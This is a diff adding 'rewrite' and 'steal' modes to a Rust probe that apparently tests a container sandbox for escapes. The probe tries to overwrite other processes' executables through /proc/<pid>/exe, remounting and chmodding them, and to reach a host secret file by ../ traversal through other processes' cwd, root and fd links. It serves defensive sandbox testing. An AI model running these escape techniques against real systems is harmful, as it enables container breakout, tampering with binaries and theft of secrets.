@@ -1,18 +1,114 @@
 //! What looks around inside a container: prints what it sees as JSON, and tries what an attacker would.
 #![forbid(unsafe_code)]
 
+use cofferdam_sys::mount::{MountAttr, attr};
+use nix::mount::MsFlags;
 use serde_json::{Map, Value, json};
 use std::fs;
+use std::io::Write;
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::time::{Duration, Instant};
 
 fn main() {
     let mut words = std::env::args().skip(1);
     let verb = words.next().unwrap_or_default();
     match verb.as_str() {
         "see" => println!("{}", see()),
+        "rewrite" => rewrite(seconds(words.next())),
+        "steal" => steal(&words.next().unwrap_or_default(), seconds(words.next())),
         "notify" => notify(&words.next().unwrap_or_default()),
         _ => {
             eprintln!("{verb}: what is that?");
             std::process::exit(2);
+        }
+    }
+}
+
+fn seconds(word: Option<String>) -> Duration {
+    Duration::from_secs(word.and_then(|word| word.parse().ok()).unwrap_or(0))
+}
+
+/// The other processes that are to be seen.
+fn others() -> Vec<String> {
+    let own = std::process::id().to_string();
+    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
+    let names = entries.filter_map(|entry| entry.file_name().into_string().ok());
+    names.filter(|name| *name != own && name.bytes().all(|byte| byte.is_ascii_digit())).collect()
+}
+
+/// Looks out for programs that are not the container's own, keeps them open, and tries to write to them: by the descriptor, by
+/// making the mount below it writable, by its file's mode.
+fn rewrite(limit: Duration) {
+    let known = |metadata: &fs::Metadata| {
+        ["/bin/busybox", "/proc/self/exe"].iter().any(|path| {
+            fs::metadata(path).is_ok_and(|own| (own.dev(), own.ino()) == (metadata.dev(), metadata.ino()))
+        })
+    };
+    let mut caught: Vec<fs::File> = Vec::new();
+    println!("ready");
+    let end = Instant::now() + limit;
+    loop {
+        for pid in others() {
+            let path = format!("/proc/{pid}/exe");
+            let Ok(file) = fs::File::open(&path) else { continue };
+            let Ok(metadata) = file.metadata() else { continue };
+            let same = |other: &fs::File| {
+                other.metadata().is_ok_and(|own| (own.dev(), own.ino()) == (metadata.dev(), metadata.ino()))
+            };
+            if known(&metadata) || caught.iter().any(same) || caught.len() > 200 {
+                continue;
+            }
+            println!("caught {}", fs::read_link(&path).unwrap_or_default().display());
+            caught.push(file);
+        }
+        caught.iter().for_each(overwrite);
+        if Instant::now() >= end {
+            return;
+        }
+    }
+}
+
+fn overwrite(file: &fs::File) {
+    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
+    let flags = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
+    let _ = nix::mount::mount(None::<&str>, path.as_str(), None::<&str>, flags, None::<&str>);
+    let change = MountAttr { clear: attr::RDONLY, ..MountAttr::default() };
+    let _ = cofferdam_sys::mount::mount_setattr(file, false, &change);
+    let _ = fs::set_permissions(&path, fs::Permissions::from_mode(0o777));
+    if let Ok(mut writable) = fs::OpenOptions::new().write(true).open(&path)
+        && writable.write_all(b"pwned").is_ok()
+    {
+        println!("WROTE {}", fs::read_link(&path).unwrap_or_default().display());
+    }
+}
+
+/// Looks at what every other process has open, stands on or has as its root, for a way to the host's file.
+fn steal(secret: &str, limit: Duration) {
+    println!("ready");
+    let end = Instant::now() + limit;
+    let mut told = std::collections::BTreeSet::new();
+    loop {
+        for pid in others() {
+            let mut ways = vec![format!("/proc/{pid}/cwd"), format!("/proc/{pid}/root")];
+            let open = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
+            ways.extend(open.map(|entry| entry.path().to_string_lossy().into_owned()));
+            for way in ways {
+                let found = (0..8).find(|depth| {
+                    let path = format!("{way}/{}{}", "../".repeat(*depth), secret.trim_start_matches('/'));
+                    fs::read_to_string(path).is_ok_and(|text| text.contains("secret"))
+                });
+                if found.is_some() {
+                    let target = fs::read_link(&way).unwrap_or_default();
+                    let kind = way.trim_start_matches(&format!("/proc/{pid}")).to_owned();
+                    if told.insert(kind) {
+                        println!("STOLEN by {way} -> {}", target.display());
+                    }
+                }
+            }
+        }
+        if Instant::now() >= end {
+            return;
         }
     }
 }
